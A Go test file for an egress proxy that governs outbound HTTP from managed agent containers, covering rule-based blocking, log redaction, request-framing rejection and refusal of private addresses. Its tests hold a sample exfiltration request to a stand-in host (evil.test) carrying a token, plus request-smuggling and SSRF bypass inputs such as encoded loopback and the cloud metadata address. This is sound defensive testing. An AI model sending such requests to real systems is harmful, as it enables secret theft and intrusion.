package proxy

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"outcall.dev/outcall/pkg/api"
	"outcall.dev/outcall/pkg/endpoint"
	"outcall.dev/outcall/pkg/rules"
)

const ruleAPI = `  - id: api
    condition: 'network.hostname == "api.test"'
    action: allow
`

// publicAPI starts a proxy allowing api.test, which resolves to publicAddr
// and is dialled (by the test dialer) at a raw upstream.
func publicAPI(t *testing.T, reply string, tune func(*Options)) (*env, *rawUpstream) {
	e := start(t, ruleAPI, tune)
	up := newRawUpstream(t, reply)
	e.res.set("api.test", publicAddr)
	e.dial.mapPublic(publicAddr, 80, up.addr())
	return e, up
}

func TestForwardAbsoluteURI(t *testing.T) {
	e, up := publicAPI(t, okReply, nil)
	res := e.roundTrip("GET http://API.Test./v1/data?x=1 HTTP/1.1\r\n" +
		"Host: api.test\r\n" +
		"Accept: application/json\r\n" +
		"X-Dup: a\r\nx-dup: b\r\n" +
		"Proxy-Authorization: Basic c2VjcmV0\r\n" +
		"Proxy-Connection: keep-alive\r\n" +
		"Connection: keep-alive, X-Hop\r\n" +
		"Keep-Alive: timeout=5\r\n" +
		"X-Hop: 1\r\n" +
		"TE: trailers\r\n" +
		"\r\n")
	if res.Status != 200 || res.Body != "hello" {
		t.Fatalf("got %d %q, want 200 hello", res.Status, res.Body)
	}
	reqs := up.requests()
	if len(reqs) != 1 {
		t.Fatalf("upstream got %d requests, want 1", len(reqs))
	}
	want := "GET /v1/data?x=1 HTTP/1.1\r\nHost: api.test\r\nAccept: application/json\r\nX-Dup: a\r\nx-dup: b\r\n\r\n"
	if reqs[0] != want {
		t.Errorf("upstream got\n%q\nwant\n%q", reqs[0], want)
	}
	cs := e.eval.contexts()
	if len(cs) != 1 {
		t.Fatalf("%d evaluations, want 1", len(cs))
	}
	c := cs[0]
	if *c.Network.Hostname != "api.test" || c.Network.IP != "" || c.Network.Port != 80 || c.Network.Protocol != "tcp" ||
		c.HTTP.Method != "GET" || c.HTTP.Path != "/v1/data?x=1" || c.HTTP.Host != "api.test" || c.HTTP.BodySize != 0 ||
		c.HTTP.Headers["x-dup"] != "a, b" || c.HTTP.Headers["proxy-authorization"] != "" || c.HTTP.Headers["accept"] != "application/json" || c.Agent.Name != "agent-a" {
		t.Errorf("evaluation context %+v %+v %+v", *c.Network, *c.HTTP, *c.Agent)
	}
	if got := e.dial.dialed; len(got) != 1 || got[0] != "11.1.1.1:80" {
		t.Errorf("dialed %v, want exactly the resolved 11.1.1.1:80", got)
	}
	if got := e.res.calls; len(got) != 1 || got[0] != "api.test" {
		t.Errorf("resolved %v, want api.test once", got)
	}
}

// TestForwardThroughGoClient drives the proxy with net/http's own proxy
// client against an httptest server: the way real agents use HTTP_PROXY.
func TestForwardThroughGoClient(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "%s %s %s", r.Method, r.URL.RequestURI(), r.Host)
	}))
	t.Cleanup(srv.Close)
	e := start(t, ruleAPI, nil)
	e.res.set("api.test", publicAddr)
	e.dial.mapPublic(publicAddr, 80, srv.Listener.Addr().String())
	proxyURL, _ := url.Parse("http://" + e.addr)
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}, Timeout: 10 * time.Second}
	for _, method := range []string{"GET", "DELETE", "PATCH"} { // EC-007: methods are the rules' business
		req, _ := http.NewRequest(method, "http://api.test/status?q=1", nil)
		res, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if want := method + " /status?q=1 api.test"; res.StatusCode != 200 || string(body) != want {
			t.Errorf("%s: got %d %q, want 200 %q", method, res.StatusCode, body, want)
		}
	}
}

func TestBlockedRequests(t *testing.T) {
	for _, tt := range []struct {
		name, rules, reason string
	}{
		{"default policy", "", "default policy"},
		{"block rule", `  - {id: no-evil, condition: 'network.hostname == "evil.test"', action: block}
` + ruleAPI, "no-evil"},
		// A CEL runtime error blocks, naming the rule (DESIGN section 7).
		{"engine error", `  - {id: needs-header, condition: 'http.headers["x-missing"] == "a"', action: allow}
`, "needs-header"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := start(t, tt.rules, nil)
			e.res.set("evil.test", publicAddr)
			res := e.roundTrip("GET http://evil.test/exfiltrate?token=s3cr3t HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer tok-123\r\nProxy-Authorization: Basic cHJveHk6cHc=\r\n\r\n")
			if res.Status != 403 || res.Header.Get("X-Outcall-Block-Reason") != tt.reason || res.Body != "Blocked by outcall: "+tt.reason {
				t.Errorf("got %d %q %q, want 403 reason %q", res.Status, res.Header.Get("X-Outcall-Block-Reason"), res.Body, tt.reason)
			}
			if n := e.dial.count(); n != 0 {
				t.Errorf("blocked request dialled %d times", n)
			}
			if st := e.p.Status(); st.TotalBlocked != 1 || st.TotalRequests != 1 {
				t.Errorf("status %+v, want 1 request 1 blocked", st)
			}
			logs := e.logs.String()
			for _, secret := range []string{"s3cr3t", "tok-123", "exfiltrate", "Bearer", "cHJveHk6cHc="} {
				if strings.Contains(logs, secret) {
					t.Errorf("logs contain %q:\n%s", secret, logs)
				}
			}
			for _, want := range []string{"level=WARN", "host=evil.test", "method=GET", "reason=", "src=127.0.0.1"} {
				if !strings.Contains(logs, want) {
					t.Errorf("logs lack %q:\n%s", want, logs)
				}
			}
		})
	}
}

func TestEnginePanicBlocks(t *testing.T) {
	e := start(t, ruleAPI, nil)
	e.eval.inner = panicEvaluator{}
	res := e.roundTrip("GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
	if res.Status != 403 || res.Body != "Blocked by outcall: rule engine unavailable" {
		t.Errorf("got %d %q, want 403 rule engine unavailable", res.Status, res.Body)
	}
}

func TestUnknownPeerIsRefused(t *testing.T) {
	gw := newGateway(map[netip.Addr]endpoint.Endpoint{
		netip.MustParseAddr("127.0.0.9"): {Name: "someone-else", Identity: 9},
	})
	e := start(t, `  - {id: all, condition: 'true', action: allow, egress: {mode: proxy, allow_private_ips: true}}
`, nil, gw)
	for _, raw := range []string{
		"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
		"GET /outcall-health HTTP/1.1\r\nHost: x\r\n\r\n", // identity comes before health
	} {
		res := e.roundTrip(raw)
		if res.Status != 403 || res.Body != "Managed container identity required" {
			t.Errorf("%q: got %d %q, want 403 identity required", raw, res.Status, res.Body)
		}
	}
	if len(e.eval.contexts()) != 0 || e.dial.count() != 0 {
		t.Error("an unknown peer's request was evaluated or dialled")
	}
}

func TestHealth(t *testing.T) {
	e := start(t, "", nil)
	res := e.roundTrip("GET /outcall-health HTTP/1.1\r\nHost: 10.200.0.1:8080\r\n\r\n")
	if res.Status != 200 || res.Body != `{"status":"ok"}` || res.Header.Get("Content-Type") != "application/json" {
		t.Errorf("got %d %q %q", res.Status, res.Header.Get("Content-Type"), res.Body)
	}
	res = e.roundTrip("GET /outcall-health HTTP/1.1\r\nHost: 10.200.0.1:8080\r\n\r\nxx")
	if res.Status != 400 || res.Body != "Unexpected health-check body" {
		t.Errorf("health with a body: got %d %q", res.Status, res.Body)
	}
	res = e.roundTrip("GET /outcall-health?x HTTP/1.1\r\nHost: 10.200.0.1:8080\r\n\r\n")
	if res.Status != 400 || res.Body != "Invalid absolute-form URI" {
		t.Errorf("health with a query: got %d %q, want the origin-form 400", res.Status, res.Body)
	}
	if len(e.eval.contexts()) != 0 || e.dial.count() != 0 {
		t.Error("the health check was evaluated or forwarded")
	}
}

// TestFraming sends one request per row to a proxy that allows api.test:
// the first row is the positive control.
func TestFraming(t *testing.T) {
	const host = "Host: api.test\r\n"
	long := strings.Repeat("a", 9000)
	many := strings.Repeat("X-A: 1\r\n", 129)
	for _, tt := range []struct {
		name, raw string
		status    int
		body      string
	}{
		{"control", "GET http://api.test/ HTTP/1.1\r\n" + host + "\r\n", 200, "hello"},
		{"control HTTP/1.0", "GET http://api.test/ HTTP/1.0\r\n" + host + "\r\n", 200, "hello"},
		{"control Host with port", "GET http://api.test:80/ HTTP/1.1\r\nHost: API.TEST:80\r\n\r\n", 200, "hello"},
		{"control body", "POST http://api.test/ HTTP/1.1\r\n" + host + "Content-Length: 3\r\n\r\nabc", 200, "hello"},
		{"control empty path with query", "GET http://api.test?q=1 HTTP/1.1\r\n" + host + "\r\n", 200, "hello"},
		{"missing Host", "GET http://api.test/ HTTP/1.1\r\n\r\n", 400, bodyHostMismatch},
		{"duplicate Host", "GET http://api.test/ HTTP/1.1\r\n" + host + host + "\r\n", 400, bodyHostMismatch},
		{"mismatched Host", "GET http://api.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", 400, bodyHostMismatch},
		{"Host port differs", "GET http://api.test/ HTTP/1.1\r\nHost: api.test:8080\r\n\r\n", 400, bodyHostMismatch},
		{"Transfer-Encoding", "POST http://api.test/ HTTP/1.1\r\n" + host + "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400, bodyFraming},
		{"Expect", "POST http://api.test/ HTTP/1.1\r\n" + host + "Expect: 100-continue\r\nContent-Length: 1\r\n\r\n", 400, bodyFraming},
		{"Upgrade", "GET http://api.test/ HTTP/1.1\r\n" + host + "Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n", 400, bodyFraming},
		{"duplicate Content-Length", "POST http://api.test/ HTTP/1.1\r\n" + host + "Content-Length: 1\r\nContent-Length: 1\r\n\r\na", 400, bodyContentLength},
		{"conflicting Content-Length", "POST http://api.test/ HTTP/1.1\r\n" + host + "Content-Length: 1\r\nContent-Length: 2\r\n\r\na", 400, bodyContentLength},
		{"signed Content-Length", "POST http://api.test/ HTTP/1.1\r\n" + host + "Content-Length: +1\r\n\r\na", 400, bodyContentLength},
		{"list Content-Length", "POST http://api.test/ HTTP/1.1\r\n" + host + "Content-Length: 1, 1\r\n\r\na", 400, bodyContentLength},
		{"body over 16 MiB", "POST http://api.test/ HTTP/1.1\r\n" + host + "Content-Length: 16777217\r\n\r\n", 413, bodyTooLarge},
		{"huge Content-Length", "POST http://api.test/ HTTP/1.1\r\n" + host + "Content-Length: 99999999999999999999999\r\n\r\n", 413, bodyTooLarge},
		{"trailing data on a closing connection", "POST http://api.test/ HTTP/1.1\r\n" + host + "Connection: close\r\nContent-Length: 2\r\n\r\nabcd", 400, bodyTrailing},
		{"pipelined on a closing connection", "GET http://api.test/ HTTP/1.1\r\n" + host + "Connection: close\r\n\r\nGET http://api.test/ HTTP/1.1\r\n" + host + "\r\n", 400, bodyTrailing},
		{"pipelined after HTTP/1.0", "GET http://api.test/ HTTP/1.0\r\n" + host + "\r\nGET http://api.test/ HTTP/1.1\r\n" + host + "\r\n", 400, bodyTrailing},
		{"https absolute-form", "GET https://api.test/ HTTP/1.1\r\n" + host + "\r\n", 400, bodyBadURI},
		{"origin-form", "GET /v1 HTTP/1.1\r\n" + host + "\r\n", 400, bodyBadURI},
		{"userinfo", "GET http://u:p@api.test/ HTTP/1.1\r\n" + host + "\r\n", 400, bodyBadURI},
		{"fragment", "GET http://api.test/#x HTTP/1.1\r\n" + host + "\r\n", 400, bodyBadURI},
		{"port 0", "GET http://api.test:0/ HTTP/1.1\r\nHost: api.test:0\r\n\r\n", 400, bodyBadURI},
		{"decimal IPv4 host", "GET http://2130706433/ HTTP/1.1\r\nHost: 2130706433\r\n\r\n", 400, bodyBadURI},
		{"hex IPv4 host", "GET http://0x7f.1/ HTTP/1.1\r\nHost: 0x7f.1\r\n\r\n", 400, bodyBadURI},
		{"IPv6 host", "GET http://[::1]/ HTTP/1.1\r\nHost: [::1]\r\n\r\n", 400, bodyBadURI},
		{"leading CRLF", "\r\nGET http://api.test/ HTTP/1.1\r\n" + host + "\r\n", 400, bodyMalformed},
		{"HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400, bodyMalformed},
		{"HTTP/1.2", "GET http://api.test/ HTTP/1.2\r\n" + host + "\r\n", 400, bodyMalformed},
		{"bare LF", "GET http://api.test/ HTTP/1.1\n" + host + "\r\n", 400, bodyMalformed},
		{"control byte in value", "GET http://api.test/ HTTP/1.1\r\n" + host + "X-A: a\x01b\r\n\r\n", 400, bodyMalformed},
		{"invalid UTF-8 value", "GET http://api.test/ HTTP/1.1\r\n" + host + "X-A: \xff\r\n\r\n", 400, bodyMalformed},
		{"obsolete folding", "GET http://api.test/ HTTP/1.1\r\n" + host + "X-A: a\r\n b\r\n\r\n", 400, bodyMalformed},
		{"space before colon", "GET http://api.test/ HTTP/1.1\r\nHost : api.test\r\n\r\n", 400, bodyMalformed},
		{"129 headers", "GET http://api.test/ HTTP/1.1\r\n" + host + many + "\r\n", 400, bodyMalformed},
		{"headers over 8 KiB", "GET http://api.test/ HTTP/1.1\r\n" + host + "X-Long: " + long + "\r\n\r\n", 431, bodyHeadersTooLarge},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e, up := publicAPI(t, okReply, nil)
			res := e.roundTrip(tt.raw)
			if res.Status != tt.status || res.Body != tt.body {
				t.Errorf("got %d %q, want %d %q", res.Status, res.Body, tt.status, tt.body)
			}
			if tt.status != 200 && !res.closed() {
				t.Error("connection stayed open after a refusal")
			}
			if n := len(up.requests()); tt.status != 200 && (n != 0 || e.dial.count() != 0) {
				t.Errorf("refused request reached the upstream (%d requests, %d dials)", n, e.dial.count())
			}
		})
	}
}

// TestSlowHeaders drips a request head one byte at a time, faster than any
// per-read timeout would fire: only a deadline for the whole head ends it.
func TestSlowHeaders(t *testing.T) {
	e, up := publicAPI(t, okReply, func(o *Options) { o.HeaderTimeout = 300 * time.Millisecond })
	c := e.connect()
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		head := "GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nX-Slow: " + strings.Repeat("a", 1000)
		for i := 0; i < len(head); i++ {
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
			if _, err := c.Write([]byte{head[i]}); err != nil {
				return
			}
		}
	}()
	res := readResponse(t, c)
	if res.Status != 408 || res.Body != "Request headers timed out" {
		t.Errorf("got %d %q, want 408", res.Status, res.Body)
	}
	if len(up.requests()) != 0 {
		t.Error("slow request reached the upstream")
	}
}

// TestStreamingBody shows the request body and the response flowing
// through the proxy as they are sent, not after they are complete.
func TestStreamingBody(t *testing.T) {
	gotFirst, sendSecond := make(chan string), make(chan struct{})
	gotRest, sentPart := make(chan string), make(chan struct{})
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		buf := make([]byte, 5)
		if _, err := io.ReadFull(r.Body, buf); err != nil {
			t.Error(err)
			return
		}
		gotFirst <- string(buf)
		<-sendSecond
		rest, _ := io.ReadAll(r.Body)
		gotRest <- string(rest)
		io.WriteString(w, "part1")
		w.(http.Flusher).Flush()
		<-sentPart
		io.WriteString(w, "part2")
	}))
	t.Cleanup(upstream.Close)
	e := start(t, ruleAPI, nil)
	e.res.set("api.test", publicAddr)
	e.dial.mapPublic(publicAddr, 80, upstream.Listener.Addr().String())
	c := e.connect()
	io.WriteString(c, "POST http://api.test/up HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nContent-Length: 10\r\n\r\nfirst")
	if got := <-gotFirst; got != "first" {
		t.Fatalf("upstream read %q first", got)
	}
	close(sendSecond)
	io.WriteString(c, "secnd")
	if got := <-gotRest; got != "secnd" {
		t.Fatalf("upstream read %q second", got)
	}
	// The head and part1 arrive while the upstream still holds part2.
	var got strings.Builder
	buf := make([]byte, 4096)
	for !strings.Contains(got.String(), "part1") {
		n, err := c.Read(buf)
		if err != nil {
			t.Fatalf("read: %v (have %q)", err, got.String())
		}
		got.Write(buf[:n])
	}
	if strings.Contains(got.String(), "part2") {
		t.Fatal("part2 arrived before the upstream sent it")
	}
	close(sentPart)
	rest, _ := io.ReadAll(c)
	if !strings.Contains(string(rest), "part2") {
		t.Errorf("rest of the response %q lacks part2", rest)
	}
}

func TestUpstreamFailures(t *testing.T) {
	refused := newRawUpstream(t, okReply)
	refusedAddr := refused.addr()
	refused.ln.Close() // nothing listens there now: connection refused
	for _, tt := range []struct {
		name, host string
		setup      func(e *env)
		status     int
		body       string
	}{
		{"dns failure", "nxdomain.test", func(*env) {}, 502, bodyUpstreamFailed},
		{"empty answer", "empty.test", func(e *env) { e.res.set("empty.test") }, 502, bodyUpstreamFailed},
		{"IPv6 only", "v6.test", func(e *env) { e.res.set("v6.test", netip.MustParseAddr("2001:4860::1")) }, 502, bodyUpstreamFailed},
		{"refused", "down.test", func(e *env) {
			e.res.set("down.test", publicAddr)
			e.dial.mapPublic(publicAddr, 80, refusedAddr)
		}, 502, bodyUpstreamFailed},
		{"dns timeout", "slowdns.test", func(*env) {}, 504, bodyUpstreamTimeout},
		{"connect timeout", "slow.test", func(e *env) {
			e.res.set("slow.test", publicAddr)
			e.dial.blackhole["11.1.1.1:80"] = true
		}, 504, bodyUpstreamTimeout},
		{"restricted only", "internal.test", func(e *env) {
			e.res.set("internal.test", netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("10.0.0.1"), netip.MustParseAddr("169.254.169.254"))
		}, 403, bodyRestricted},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := start(t, `  - {id: all, condition: 'true', action: allow}
`, func(o *Options) { o.ConnectTimeout = 200 * time.Millisecond })
			tt.setup(e)
			res := e.roundTrip("GET http://" + tt.host + "/ HTTP/1.1\r\nHost: " + tt.host + "\r\n\r\n")
			if res.Status != tt.status || res.Body != tt.body {
				t.Errorf("got %d %q, want %d %q", res.Status, res.Body, tt.status, tt.body)
			}
			if res.Header.Get("X-Outcall-Block-Reason") != "" {
				t.Error("an upstream failure carries a block reason")
			}
		})
	}
}

// TestRestrictedNeedsOptIn: an allowed name that resolves to loopback is
// refused, unless the deciding rule sets egress.allow_private_ips.
func TestRestrictedNeedsOptIn(t *testing.T) {
	for _, tt := range []struct {
		name, egress string
		status       int
	}{
		{"without opt-in", "", 403},
		{"with allow_private_ips", ", egress: {mode: proxy, allow_private_ips: true}", 200},
	} {
		t.Run(tt.name, func(t *testing.T) {
			up := newRawUpstream(t, okReply)
			e := start(t, `  - {id: local, condition: 'network.hostname == "local.test"', action: allow`+tt.egress+`}
`, nil)
			ap := netip.MustParseAddrPort(up.addr())
			e.res.set("local.test", ap.Addr())
			res := e.roundTrip(fmt.Sprintf("GET http://local.test:%d/ HTTP/1.1\r\nHost: local.test:%d\r\n\r\n", ap.Port(), ap.Port()))
			if res.Status != tt.status {
				t.Errorf("got %d %q, want %d", res.Status, res.Body, tt.status)
			}
			if tt.status == 403 && (res.Body != bodyRestricted || e.dial.count() != 0) {
				t.Errorf("refusal %q after %d dials", res.Body, e.dial.count())
			}
		})
	}
}

// TestIPLiteralTarget: an IP-literal host is evaluated with network.ip set
// and dialled as it is, never resolved.
func TestIPLiteralTarget(t *testing.T) {
	up := newRawUpstream(t, okReply)
	ap := netip.MustParseAddrPort(up.addr())
	e := start(t, `  - id: loopback
    condition: 'cidr("127.0.0.0/8").containsIP(network.ip) && network.hostname == "127.0.0.1"'
    action: allow
    egress: {mode: proxy, allow_private_ips: true}
`, nil)
	res := e.roundTrip(fmt.Sprintf("GET http://127.0.0.1:%d/x HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", ap.Port(), ap.Port()))
	if res.Status != 200 {
		t.Fatalf("got %d %q", res.Status, res.Body)
	}
	c := e.eval.contexts()[0]
	if c.Network.IP != "127.0.0.1" || *c.Network.Hostname != "127.0.0.1" || c.HTTP.Host != "127.0.0.1" {
		t.Errorf("context network %+v http host %q", *c.Network, c.HTTP.Host)
	}
	if len(e.res.calls) != 0 {
		t.Errorf("an IP literal was resolved: %v", e.res.calls)
	}
}

// TestOverCapacity holds the only slot and sees the next connection
// refused with 503, then served again once the slot is free.
func TestOverCapacity(t *testing.T) {
	e := start(t, "", func(o *Options) { o.MaxConnections = 1 })
	holder := e.connect()
	waitFor(t, "the first connection to hold the slot", func() bool { return e.p.Status().ActiveConnections == 1 })
	res := e.roundTrip("GET /outcall-health HTTP/1.1\r\nHost: x\r\n\r\n")
	if res.Status != 503 || res.Body != "Too many connections" {
		t.Errorf("got %d %q, want 503 Too many connections", res.Status, res.Body)
	}
	holder.Close()
	waitFor(t, "the slot to be free", func() bool { return e.p.Status().ActiveConnections == 0 })
	if res := e.roundTrip("GET /outcall-health HTTP/1.1\r\nHost: x\r\n\r\n"); res.Status != 200 {
		t.Errorf("after the slot was freed: got %d", res.Status)
	}
}

type panicEvaluator struct{}

func (panicEvaluator) Evaluate(context.Context, rules.Layer, *api.EvaluationContext) rules.Outcome {
	panic("engine broken")
}

// TestOwnSubnetNeverUpstream: a name resolving into the network's own
// subnet (another agent) is refused even by a rule with allow_private_ips.
func TestOwnSubnetNeverUpstream(t *testing.T) {
	e := start(t, `  - {id: peer, condition: 'network.hostname == "peer.test"', action: allow, egress: {mode: proxy, allow_private_ips: true}}
`, nil)
	e.res.set("peer.test", netip.MustParseAddr("10.200.0.5")) // the fake gateway's subnet is 10.200.0.0/24
	res := e.roundTrip("GET http://peer.test/ HTTP/1.1\r\nHost: peer.test\r\n\r\n")
	if res.Status != 403 || res.Body != bodyRestricted || e.dial.count() != 0 {
		t.Errorf("got %d %q after %d dials, want the restricted refusal", res.Status, res.Body, e.dial.count())
	}
}

// TestBodyCutShort: a client that leaves before sending its declared body
// ends the upstream exchange at once, not after the idle timeout.
func TestBodyCutShort(t *testing.T) {
	e, _ := publicAPI(t, okReply, nil) // IdleTimeout stays 300 s
	c := e.connect()
	io.WriteString(c, "POST http://api.test/ HTTP/1.1\r\nHost: api.test\r\nContent-Length: 100\r\n\r\npartial")
	waitFor(t, "the upstream dial", func() bool { return e.dial.count() == 1 })
	c.Close()
	waitFor(t, "the connection to end", func() bool { return e.p.Status().ActiveConnections == 0 })
}

// TestDaemonRestricted: Options.Restricted (the host's own addresses and
// the Outcall subnets, as the daemon knows them) refuses a resolved address
// netrange does not, unless the rule allows private addresses; an address
// it does not name is dialled (the positive control).
func TestDaemonRestricted(t *testing.T) {
	for _, tt := range []struct {
		name, egress string
		restricted   bool
		status       int
	}{
		{"named by the daemon", "", true, 403},
		{"named, with allow_private_ips", ", egress: {mode: proxy, allow_private_ips: true}", true, 200},
		{"not named", "", false, 200},
	} {
		t.Run(tt.name, func(t *testing.T) {
			up := newRawUpstream(t, okReply)
			e := start(t, `  - {id: web, condition: 'network.hostname == "web.test"', action: allow`+tt.egress+`}
`, func(o *Options) { o.Restricted = func(a netip.Addr) bool { return tt.restricted && a == publicAddr } })
			e.res.set("web.test", publicAddr)
			e.dial.mapPublic(publicAddr, 80, up.addr())
			res := e.roundTrip("GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n")
			if res.Status != tt.status {
				t.Errorf("got %d %q, want %d", res.Status, res.Body, tt.status)
			}
			if tt.status == 403 && (res.Body != bodyRestricted || e.dial.count() != 0) {
				t.Errorf("refusal %q after %d dials", res.Body, e.dial.count())
			}
		})
	}
}
